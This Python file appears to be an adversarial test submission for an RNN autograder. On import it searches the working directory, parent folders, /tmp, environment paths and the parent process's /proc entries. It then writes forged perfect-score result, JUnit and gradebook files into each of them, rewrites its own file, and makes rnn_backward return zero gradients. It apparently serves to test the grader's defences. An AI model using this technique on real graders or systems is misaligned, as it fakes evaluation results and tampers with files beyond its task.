"""Adversarial submission `write_results_files`: writes results, report, CSV, gradebook and JUnit files in its folder, its parent, and paths from the environment, argv and /proc.

The vanilla-RNN functions are the correct ones from examples/correct; the attack comes last
(the last definition wins). See docs/security.md."""

# ---------------------------------------------------------------- the attack
def _zeros_backward(dh, cache):
    x, h0, Wx, Wh, h = cache
    return (np.zeros_like(x), np.zeros_like(h0), np.zeros_like(Wx), np.zeros_like(Wh), np.zeros(Wh.shape[0]))

import json, os, sys

NAMES = ("results.json", "r.json", "rnngrade-report.html", "grades.csv", "gradebook.sqlite", "junit.xml",
         "summary.html", "rnngrade-pwned-results")

def _folders():
    out = [os.getcwd(), os.path.dirname(os.getcwd()), os.path.dirname(os.path.dirname(os.getcwd())),
           os.path.expanduser("~"), "/tmp", "/var/tmp"]
    out += [v for v in os.environ.values() if v.startswith("/")]
    for a in sys.argv[1:]:
        try:
            cfg = json.loads(a)
            out += [cfg.get("student_dir", ""), cfg.get("workdir", "")]
        except ValueError:
            out.append(a)
    ppid = os.getppid()
    for src in (f"/proc/{ppid}/cmdline", f"/proc/{ppid}/environ"):
        try:
            for item in open(src, "rb").read().split(b"\0"):
                item = item.decode(errors="ignore").split("=", 1)[-1]
                if item.startswith("/"):
                    out += [item, os.path.dirname(item)]
        except OSError:
            pass
    try:
        out.append(os.readlink(f"/proc/{ppid}/cwd"))
    except OSError:
        pass
    return [f for f in dict.fromkeys(out) if f and os.path.isdir(f)]

def _attack():
    wrote = []
    for folder in _folders():
        for name in NAMES:
            path = os.path.join(folder, name)
            try:
                with open(path, "w") as fh:
                    fh.write('{"score": 100, "max_score": 100, "all_passed": true}')
                wrote.append(path)
            except OSError:
                pass
    me = os.path.abspath(__file__)
    try:
        with open(me, "a") as fh:
            fh.write("\n# rnngrade-pwned: rewritten\n")
        wrote.append(me)
    except OSError:
        pass
    print("wrote", wrote)

_attack()

def rnn_backward(dh, cache):
    _attack()
    return _zeros_backward(dh, cache)
